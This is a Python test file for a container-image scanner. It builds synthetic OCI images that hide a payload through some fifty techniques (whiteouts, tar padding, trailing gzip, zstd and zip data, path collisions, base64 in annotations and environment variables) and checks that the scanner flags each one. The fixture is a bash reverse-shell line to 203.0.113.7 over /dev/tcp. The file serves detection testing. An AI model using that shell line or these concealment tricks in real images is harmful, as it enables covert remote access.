"""Content that is brought along unseen: each way has a finding of its own, and what is hidden is audited. docs/hidden-content.md is the list."""
import base64
import gzip
import io
import json
import os
import pathlib
import random
import shutil
import struct
import subprocess
import zipfile

import support  # first: it sets the path
import images
from images import File, layer, tar_entry, TAR_END

SHELL = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
ENCODED = base64.b64encode(SHELL.encode() * 2).decode()
CLEAN = layer(File("etc/motd", "hello\n"))


def scan(folder):
    return support.scan(f"oci:{folder}")[1]


def plain(*layers):
    return lambda folder: images.write_layout(folder, {"latest": images.Image(list(layers))})


def stored(data, kind="tar+gzip", content=CLEAN):
    return lambda folder: images.write_custom_layout(folder, [(content, data, kind)])


def custom(**options):
    return lambda folder: images.write_custom_layout(folder, [(CLEAN, images.zipped(CLEAN), "tar+gzip")], **options)


def tar(*parts):
    return plain(b"".join(parts) + TAR_END)


def zstd(data):
    return subprocess.run(["zstd", "-c"], input=data, capture_output=True, check=True).stdout


def packed(name="a", data="a"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, data)
    return out.getvalue()


def both_kinds(folder):
    """The manifest of a clean image that is also an index of a bad one."""
    bad = images.Image([layer(File("run.sh", SHELL, mode=0o755))], entrypoint=["/run.sh"])
    document, blobs = bad.manifest()

    def change(top):
        top["manifests"] = [{"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": images.digest(document), "size": len(document)}]
    images.write_custom_layout(folder, [(CLEAN, images.zipped(CLEAN), "tar+gzip")], manifest=change, blobs=[document, *blobs.values()])


def annotate(value):
    def change(document):
        document.setdefault("annotations", {})["example"] = value
    return change


def embed(data):
    def change(document):
        document["config"]["data"] = base64.b64encode(data).decode()
    return change


def lie_about_diff_id(document):
    document["rootfs"]["diff_ids"][0] = images.digest(b"another")


BAD = layer(File("opt/x.sh", SHELL, mode=0o755))
SKIPPABLE = struct.pack("<II", 0x184D2A50, len(SHELL)) + SHELL.encode()
HIDDEN = "reverse-shell.dev-tcp"
# name: (makes the image, the finding of this way, whether the hidden shell must be found in it)
WAYS = {
    "dropped and deleted": (plain(BAD, layer(File("opt/.wh.x.sh"))), "hidden-content.deleted-payload", True),
    "dropped and hidden by an opaque marker": (plain(BAD, layer(File("opt/.wh..wh..opq"))), "hidden-content.deleted-payload", True),
    "overwritten": (plain(BAD, layer(File("opt/x.sh", "#!/bin/sh\n", mode=0o755))), "hidden-content.overwritten-payload", True),
    "overwritten by a folder": (plain(BAD, layer(File("opt/x.sh", folder=True))), "hidden-content.overwritten-payload", True),
    "under a whiteout name": (plain(layer(File("opt/.wh.x", SHELL))), "hidden-content.whiteout-with-content", True),
    "in an opaque marker": (plain(layer(File("opt/.wh..wh..opq", SHELL))), "hidden-content.whiteout-with-content", True),
    "in a folder with a marker's name": (plain(layer(File("opt/.wh.x/run.sh", SHELL))), "hidden-content.content-below-marker", True),
    "marker without a name": (plain(CLEAN, layer(File("etc/.wh."))), "hidden-content.folder-whiteout", False),
    "marker of the folder itself": (plain(CLEAN, layer(File("etc/.wh.."))), "hidden-content.folder-whiteout", False),
    "marker of the folder above": (plain(CLEAN, layer(File("etc/.wh..."))), "hidden-content.folder-whiteout", False),
    "marker of the root": (plain(CLEAN, layer(File(".wh."))), "hidden-content.folder-whiteout", False),
    "almost an opaque marker": (plain(CLEAN, layer(File("etc/.wh..wh..opqX"))), "hidden-content.malformed-whiteout", False),
    "marker that is a link": (plain(CLEAN, layer(File("etc/.wh.motd", link="/bin"))), "hidden-content.malformed-whiteout", False),
    "marker in the lowest layer": (plain(layer(File("etc/.wh.motd"), File("a", "a"))), "hidden-content.marker-without-target", False),
    "opaque root": (plain(CLEAN, layer(File(".wh..wh..opq"))), "hidden-content.opaque-root", False),
    "layer that removes what it brings": (plain(CLEAN, layer(File("opt/x.sh", SHELL), File("opt/.wh.x.sh"))), "hidden-content.whiteout-of-own-entry", True),
    "unreferenced blob": (lambda folder: images.write_layout(folder, {"latest": images.Image([CLEAN])}, extra_blobs=[images.zipped(BAD)]), "hidden-content.unreferenced-blob", True),
    "padding of a tar": (tar(tar_entry("a", "a", padding=SHELL.encode())), "hidden-content.tar-padding", True),
    "behind the end of a tar": (plain(tar_entry("a", "a") + TAR_END + SHELL.encode().ljust(512, b"\0")), "hidden-content.tar-after-end", True),
    "a second tar behind the first": (plain(tar_entry("a", "a") + TAR_END + tar_entry("run.sh", SHELL) + TAR_END), "hidden-content.tar-after-end", True),
    "blocks that are no headers": (tar(tar_entry("a", "a"), SHELL.encode().ljust(512, b"\0"), tar_entry("b", "b")), "hidden-content.archive-slack", True),
    "behind the header of a link": (tar(tar_entry("l", SHELL, kind=b"2", link="a")), "anomaly.archive-ambiguous", True),
    "later gzip member": (stored(images.zipped(CLEAN) + gzip.compress(SHELL.encode() * 20)), "anomaly.gzip-extra-member", True),
    "behind the end of gzip": (stored(images.zipped(CLEAN) + SHELL.encode() * 20), "hidden-content.trailing-data", True),
    "skippable frame": (stored(SKIPPABLE + zstd(CLEAN), "tar+zstd"), "hidden-content.zstd-skippable-frame", True),
    "skippable frame at the end": (stored(zstd(CLEAN) + SKIPPABLE, "tar+zstd"), "hidden-content.zstd-skippable-frame", True),
    "behind a program": (plain(layer(File("usr/bin/app", images.elf() + SHELL.encode(), mode=0o755))), "hidden-content.elf-trailing-data", True),
    "in front of a zip": (plain(layer(File("srv/a.bin", SHELL.encode() + packed()))), None, True),
    "behind the end of a zip": (plain(layer(File("srv/a.zip", packed() + SHELL.encode()))), "hidden-content.zip-gap", True),
    "duplicate entry": (tar(tar_entry("a", SHELL), tar_entry("a", "a")), "anomaly.tar-duplicate-entry", True),
    "./a": (tar(tar_entry("a", SHELL), tar_entry("./a", "a")), "anomaly.tar-path-collision", True),
    "/a": (tar(tar_entry("a", SHELL), tar_entry("/a", "a")), "anomaly.tar-path-collision", True),
    "b//a": (tar(tar_entry("b/a", SHELL), tar_entry("b//a", "a")), "anomaly.tar-path-collision", True),
    "b/../a": (tar(tar_entry("a", SHELL), tar_entry("b/../a", "a")), "anomaly.tar-path-collision", True),
    "pax name": (tar(images.pax_header({"path": "etc/passwd"}), tar_entry("harmless", SHELL)), "anomaly.tar-pax-disagreement", True),
    "pax size": (tar(images.pax_header({"size": "1024"}), tar_entry("a", b"x" * 512 + tar_entry("run.sh", SHELL), size=512)), "anomaly.tar-pax-disagreement", True),
    "below a link of the layer": (tar(tar_entry("l", kind=b"2", link="etc"), tar_entry("l/run.sh", SHELL)), "anomaly.tar-entry-below-file", True),
    "below a link of a lower layer": (plain(layer(File("bin", link="usr/bin"), File("usr/bin/a", "a")), layer(File("bin/x.sh", SHELL, mode=0o755))), "anomaly.layer-writes-through-link", True),
    "data of a descriptor": (custom(manifest=embed(SHELL.encode() * 2)), "integrity.descriptor-data", True),
    "annotation": (custom(manifest=annotate(ENCODED)), "hidden-content.payload-in-metadata", True),
    "annotation of the index": (custom(descriptor=annotate(ENCODED)), "hidden-content.payload-in-metadata", True),
    "annotation with a program": (custom(manifest=annotate(base64.b64encode(images.elf()).decode())), "hidden-content.payload-in-metadata", False),
    "label": (custom(labels={"example": ENCODED}), "hidden-content.payload-in-metadata", True),
    "variable": (custom(env=["A=" + ENCODED]), "hidden-content.payload-in-metadata", True),
    "index and manifest in one": (both_kinds, "anomaly.manifest-and-index", True),
    "diff_id of another layer": (custom(config=lie_about_diff_id), "integrity.diff-id", False),
    "history with more steps": (custom(history=[{"created_by": "COPY a /a"}, {"created_by": "COPY b /b"}]), "anomaly.history-count", False),
    "history that names another file": (custom(history=[{"created_by": "COPY app /srv/app # buildkit"}]), "anomaly.history-mismatch", False),
    "history of a step without files": (custom(history=[{"created_by": '/bin/sh -c #(nop)  CMD ["sh"]'}]), "anomaly.history-mismatch", False),
}


def test_each_way_has_its_finding_and_what_is_hidden_is_audited():
    problems = []
    for name, (make, rule, has_shell) in WAYS.items():
        with support.temporary_folder() as folder:
            make(folder)
            report = scan(folder)
            found = {f["rule"] for f in report["findings"]}
            if rule is not None and rule not in found:
                problems.append(f"{name}: no {rule}, but {sorted(found)}")
            if has_shell and not any(rule.startswith("reverse-shell.") for rule in found):
                problems.append(f"{name}: the shell was not found, but {sorted(found)}")
            if has_shell and report["verdict"] == "clean":
                problems.append(f"{name}: clean")
    assert not problems, "\n" + "\n".join(problems)


def test_every_way_is_in_the_documentation():
    text = (pathlib.Path(__file__).resolve().parents[2] / "docs" / "hidden-content.md").read_text()
    for _, rule, _ in WAYS.values():
        assert rule is None or f"`{rule}`" in text, rule


def test_an_honest_image_has_nothing_hidden():
    first = layer(File("etc", folder=True), File("etc/motd", "one\n"), File("usr/bin/tool", images.elf(), mode=0o755), File("usr/bin/t", hard="usr/bin/tool"), File("bin", link="usr/bin"))
    second = layer(File("etc", folder=True), File("etc/motd", "two\n"), File("usr/bin/.wh.t"), File("srv/.wh..wh..opq"), File("srv/app", "app\n"))
    history = [{"created_by": "/bin/sh -c #(nop) ADD file:0123 in / "}, {"created_by": "/bin/sh -c #(nop)  ENV A=1", "empty_layer": True}, {"created_by": "COPY app /srv/ # buildkit"}]
    with support.temporary_folder() as folder:
        images.write_layout(folder, {"latest": images.Image([first, second], history=history)})
        report = scan(folder)
        assert report["verdict"] == "clean" and not [f for f in report["findings"] if f["severity"] != "info"], report["findings"]


def test_a_hard_link_keeps_what_was_replaced_in_sight():
    bad = layer(File("opt/x.sh", SHELL, mode=0o755), File("opt/y.sh", hard="opt/x.sh"))
    with support.temporary_folder() as folder:
        images.write_layout(folder, {"latest": images.Image([bad, layer(File("opt/x.sh", "#!/bin/sh\n", mode=0o755))], entrypoint=["/opt/y.sh"])})
        shell = [f for f in scan(folder)["findings"] if f["rule"] == HIDDEN][0]
        assert shell["location"]["in_final_rootfs"], shell


def random_stack(seed):
    """Layers that do to each other whatever layers can; every file has a content of its own."""
    dice = random.Random(seed)
    folders, names = ["", "a/", "b/", "a/c/", "b/d/", "l/"], ["x", "y", "z", "c", "d"]
    stack, number = [], 0
    for depth in range(dice.randint(2, 4)):
        entries, taken = [], set()
        for _ in range(dice.randint(2, 9)):
            path = dice.choice(folders) + dice.choice(names)
            kind = dice.choice(["file"] * 6 + ["folder", "link", "hard", "whiteout", "whiteout", "opaque"])
            if kind == "opaque":
                path = dice.choice(folders[1:]) + ".wh..wh..opq"
            if kind == "whiteout":
                path = os.path.join(os.path.dirname(path), ".wh." + os.path.basename(path))
            plain_path = path.replace(".wh.", "")
            # Within one layer every path once, no path below another's file, and no marker for what the layer itself brings: engines differ in these.
            if plain_path in taken or any(other.startswith(plain_path + "/") or plain_path.startswith(other + "/") for other in taken) or (depth == 0 and ".wh." in path):
                continue
            if kind == "opaque" and any(other.startswith(os.path.dirname(path) + "/") for other in taken):
                continue
            taken.add(plain_path)
            if kind == "file":
                number += 1
                entries.append(File(path, f"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/{10000 + number} 0>&1\n"))
            elif kind == "folder":
                entries.append(File(path, folder=True))
            elif kind == "link":
                name = "l" if depth == 0 and not any(other.split("/")[0] == "l" for other in taken) else path
                entries.append(File(name, link=dice.choice(["a", "b", "/a/c", "../b"])))
                taken.add(name)
            elif kind == "hard":
                files = [entry for entry in entries if entry.content and entry.link is None]
                if files:
                    entries.append(File(path, hard=dice.choice(files).path))
            else:
                entries.append(File(path))
        stack.append(layer(*entries))
    return stack


def test_what_is_visible_is_what_umoci_unpacks():
    if shutil.which("umoci") is None or os.geteuid() != 0:
        print("skipped: umoci is not installed, or this is not root")
        return
    compared, problems = 0, []
    for seed in range(60):
        with support.temporary_folder() as folder:
            images.write_layout(f"{folder}/oci", {"latest": images.Image(random_stack(seed))})
            done = subprocess.run(["umoci", "unpack", "--image", f"{folder}/oci:latest", f"{folder}/bundle"], capture_output=True, text=True, timeout=60)
            if done.returncode != 0:
                continue  # a stack that umoci refuses
            compared += 1
            unpacked = set()
            for path in pathlib.Path(f"{folder}/bundle/rootfs").rglob("*"):
                if path.is_file() and not path.is_symlink():
                    unpacked.add(path.read_text().split("/")[-1].split(" ")[0] if "203.0.113.7" in path.read_text() else "")
            unpacked.discard("")
            report = scan(f"{folder}/oci")
            seen = {f["evidence"].split("203.0.113.7/")[1].split(" ")[0] for f in report["findings"] if f["rule"] == HIDDEN and f["location"]["in_final_rootfs"]}
            if seen != unpacked:
                problems.append(f"seed {seed}: only lazaret sees {sorted(seen - unpacked)}, only umoci {sorted(unpacked - seen)}")
    assert compared >= 30, compared
    assert not problems, "\n" + "\n".join(problems)


if __name__ == "__main__":
    support.main(globals())
